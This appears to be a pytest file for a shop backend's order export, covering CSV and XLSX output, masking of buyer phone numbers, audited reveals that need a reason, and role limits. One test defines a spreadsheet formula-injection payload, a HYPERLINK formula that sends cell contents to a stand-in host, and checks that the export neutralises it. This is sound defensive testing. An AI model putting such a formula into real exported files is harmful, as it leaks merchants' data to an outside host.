"""Export of a filtered order list (issue 8 §7) through the API and the CLI: CSV and XLSX, every order of the
filter (not one page), ids as text, amounts in yuan, buyer data masked unless revealed with a reason by a role
that may reveal; audited."""

from __future__ import annotations

import csv
import io
import json

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select

from xiaodian.accounts.models import AuditEntry
from xiaodian.db import transaction
from xiaodian.orders.domain import ItemRecord, OrderStatus
from xiaodian.orders.intake import upsert_orders

from ..conftest import NOW, csrf_of, login
from ..factories import make_record

IDS = [str(4907538423936588900 + i) for i in range(230)]


@pytest.fixture
def seeded(ctx, shop_id):
    records = [make_record(oid, unit_price_fen=5990) for oid in IDS[:-1]]
    records.append(make_record(IDS[-1], status=OrderStatus.CANCELLED, items=[
        ItemRecord(IDS[-1], "五常大米 5kg", 1, 5990, product_id="3512000000000000101"),
        ItemRecord(str(int(IDS[-1]) + 1000), "东北小米", 2, 1205, product_id="3512000000000000102")]))
    with transaction(ctx.sessions) as session:
        upsert_orders(session, shop_id=shop_id, records=records, cipher=ctx.cipher, now=NOW)
    return ctx


def read_csv(data: bytes) -> list[dict]:
    assert data.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_has_every_order_of_the_filter_with_ids_as_text_and_yuan(seeded, owner_client):
    response = owner_client.get("/api/v1/exports/orders", params={"format": "csv"})
    assert response.status_code == 200 and response.headers["x-row-count"] == "231"
    # named in shop time, as the export jobs and the bulk-ship template are (it said 10:00 for 18:00, in UTC)
    # and for what it holds, in the page's words with an ASCII fallback (QA pass 9, #19)
    assert response.headers["content-disposition"] == (
        'attachment; filename="orders-all-per-sku-20261124-180000.csv"; '
        "filename*=UTF-8''%E8%AE%A2%E5%8D%95-%E5%85%A8%E9%83%A8-%E6%AF%8F%E4%B8%AA%E5%95%86%E5%93%81%E4%B8%80%E8%A1%8C"
        "-20261124-180000.csv")
    rows = read_csv(response.content)
    assert len(rows) == 231 and {r["主订单编号"].strip() for r in rows} == set(IDS)
    assert all(r["主订单编号"].startswith("\t") for r in rows)  # Excel keeps it text
    one = next(r for r in rows if r["主订单编号"].strip() == IDS[0])
    assert one["商品金额"] == "59.90" and one["订单应付金额"] == "59.90" and one["订单状态"] == "备货中"
    assert one["收件人手机号"] == "138****5678" and "13812345678" not in response.text
    cancelled = [r for r in rows if r["主订单编号"].strip() == IDS[-1]]
    assert [r["商品金额"] for r in cancelled] == ["59.90", "12.05"] and cancelled[0]["订单状态"] == "已取消"


def test_the_filter_narrows_the_export(seeded, owner_client):
    rows = read_csv(owner_client.get("/api/v1/exports/orders", params={"status": "cancelled"}).content)
    assert {r["主订单编号"].strip() for r in rows} == {IDS[-1]}


def test_xlsx_cells_hold_ids_as_text_and_amounts_as_numbers(seeded, owner_client):
    response = owner_client.get("/api/v1/exports/orders", params={"format": "xlsx", "status": "cancelled"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    first = dict(zip(header, [c.value for c in sheet[2]]))
    assert first["主订单编号"] == IDS[-1] and isinstance(first["主订单编号"], str)
    assert first["商品金额"] == pytest.approx(59.90) and first["收件人手机号"] == "138****5678"


def test_reveal_needs_a_reason_and_is_audited(seeded, owner_client, ctx):
    csrf = csrf_of(owner_client)
    refused = owner_client.post("/api/v1/exports/orders", headers={"x-csrf-token": csrf},
                                json={"format": "csv", "status": "cancelled", "reveal": True})
    assert refused.status_code == 422 and refused.json()["error"]["details"]["field"] == "reason"
    done = owner_client.post("/api/v1/exports/orders", headers={"x-csrf-token": csrf},
                             json={"format": "csv", "status": "cancelled", "reveal": True, "reason": "快递理赔需要完整地址"})
    rows = read_csv(done.content)
    assert rows[0]["收件人手机号"] == "13812345678" and rows[0]["收件人"] == "王小明"
    with ctx.sessions() as session:
        entries = session.execute(select(AuditEntry).where(AuditEntry.action == "orders.export")).scalars().all()
    details = [json.loads(e.detail) for e in entries]
    assert any(d["reveal"] and d["reason"] == "快递理赔需要完整地址" and d["rows"] == 2 for d in details)
    narrowed = owner_client.post("/api/v1/exports/orders", headers={"x-csrf-token": csrf},
                                 json={"format": "csv", "status": "cancelled", "reveal": True, "reason": "快递理赔需要完整地址",
                                       "paid_from": "2026-11-01", "paid_to": "2026-11-30", "flag": "any",
                                       "address_changed": "any", "product_id": "3512000000000000101"})
    assert narrowed.status_code == 200
    with ctx.sessions() as session:
        last = session.execute(select(AuditEntry).where(AuditEntry.action == "orders.export")
                               .order_by(AuditEntry.id.desc())).scalars().first()
    # every filter that chose the buyers' data is on record, not only the search, tab and order dates
    assert json.loads(last.detail)["filter"] == {
        "query": None, "tab": "cancelled", "paid_from": "2026-11-01", "paid_to": "2026-11-30",
        "product_id": "3512000000000000101", "flag": "any", "address_changed": "any"}


def test_a_role_without_reveal_gets_403_for_full_data(seeded, app, users):
    with TestClient(app) as client:
        login(client, "warehouse")
        csrf = csrf_of(client)
        response = client.post("/api/v1/exports/orders", headers={"x-csrf-token": csrf},
                               json={"format": "csv", "reveal": True, "reason": "想看看"})
        assert response.status_code == 403


def test_cs_reveals_buyers_one_at_a_time_never_a_whole_list(seeded, app, users):
    """QA D5: cs, just throttled at 30 single reveals an hour, exported 6,444 buyers' full details in one call.
    Single reveals stay theirs; a revealed export (pii.export) is the owner's."""
    with TestClient(app) as client:
        login(client, "cs")
        csrf = csrf_of(client)
        for ask in (lambda: client.post("/api/v1/exports/orders", headers={"x-csrf-token": csrf},
                                        json={"format": "csv", "reveal": True, "reason": "快递理赔需要完整地址"}),
                    lambda: client.post("/api/v1/exports/jobs", headers={"x-csrf-token": csrf},
                                        json={"format": "csv", "reveal": True, "reason": "快递理赔需要完整地址"})):
            refused = ask()
            assert refused.status_code == 403 and refused.json()["error"]["code"] == "forbidden", refused.text
        masked = client.post("/api/v1/exports/orders", headers={"x-csrf-token": csrf}, json={"format": "csv"})
        assert masked.status_code == 200 and "13812345678" not in masked.text
        single = client.post(f"/api/v1/orders/{IDS[0]}/reveal", headers={"x-csrf-token": csrf},
                             json={"reason": "联系买家改地址"})
        assert single.status_code == 200 and single.json()["phone"] == "13812345678"


def test_an_unknown_format_is_a_field_error(seeded, owner_client):
    response = owner_client.get("/api/v1/exports/orders", params={"format": "pdf"})
    assert response.status_code == 422 and response.json()["error"]["details"]["field"] == "format"


def test_one_row_per_shop_order_puts_its_items_in_one_cell(seeded, owner_client, ctx):
    """The platform's other export shape: a row per shop order, its items (product, spec, quantity) in one cell and
    their total quantity, the SKU columns left out; XLSX alike; an unknown shape is a field error; audited."""
    response = owner_client.get("/api/v1/exports/orders", params={"format": "csv", "per": "order"})
    assert response.status_code == 200 and response.headers["x-row-count"] == "230"
    rows = read_csv(response.content)
    assert len(rows) == 230 and len({r["主订单编号"] for r in rows}) == 230
    assert "子订单编号" not in rows[0] and "商品ID" not in rows[0] and "商品金额" not in rows[0]
    two = next(r for r in rows if r["主订单编号"].strip() == IDS[-1])
    assert two["选购商品"] == "五常大米 5kg ×1；东北小米 ×2" and two["商品数量"] == "3"
    assert two["订单应付金额"] == "84.00" and two["订单状态"] == "已取消"
    book = load_workbook(io.BytesIO(owner_client.get("/api/v1/exports/orders",
                                                     params={"format": "xlsx", "per": "order"}).content))
    sheet = book.active
    assert sheet.max_row == 231 and "子订单编号" not in [c.value for c in sheet[1]]
    bad = owner_client.get("/api/v1/exports/orders", params={"per": "row"})
    assert bad.status_code == 422 and bad.json()["error"]["details"]["field"] == "per"
    with ctx.sessions() as session:
        details = [json.loads(e.detail) for e in session.execute(
            select(AuditEntry).where(AuditEntry.action == "orders.export")).scalars()]
    assert sorted(d["per"] for d in details) == ["order", "order"]


HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_buyer_text_that_looks_like_a_formula_stays_text_in_both_files_and_reimports_as_it_was(ctx, shop_id,
                                                                                                 owner_client):
    """A buyer's note or a product title is someone else's text: opened in Excel or WPS, "=HYPERLINK(…)" would run
    on the merchant's machine. The XLSX keeps it a text cell; the CSV starts it with an apostrophe, which the desk's
    import takes off again, so the exported file's texts re-import as they were."""
    oid = "4907538423936590001"
    with transaction(ctx.sessions) as session:
        upsert_orders(session, shop_id=shop_id, cipher=ctx.cipher, now=NOW, records=[make_record(
            oid, buyer_note=HOSTILE_NOTE, merchant_note="-不要放驿站", product="@官方 五常大米 +5kg")])
    xlsx = owner_client.get("/api/v1/exports/orders", params={"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2]))
    assert cells["买家留言"].value == HOSTILE_NOTE and cells["买家留言"].data_type == "s"  # text, not a formula
    response = owner_client.get("/api/v1/exports/orders", params={"format": "csv"})
    row = read_csv(response.content)[0]
    assert row["买家留言"] == "'" + HOSTILE_NOTE and row["商家备注"] == "'-不要放驿站"
    assert row["选购商品"] == "'@官方 五常大米 +5kg"
    again = owner_client.post("/api/v1/imports/orders", headers={"X-CSRF-Token": csrf_of(owner_client)},
                              files={"file": ("export.csv", response.content, "text/csv")})
    assert again.status_code == 200, again.text
    assert again.json()["rejected"] == []
    shown = owner_client.get(f"/api/v1/orders/{oid}").json()  # the texts come back without the apostrophe
    assert shown["buyer_note"] == HOSTILE_NOTE and shown["merchant_note"] == "-不要放驿站"
    assert shown["items"][0]["product_name"] == "@官方 五常大米 +5kg"
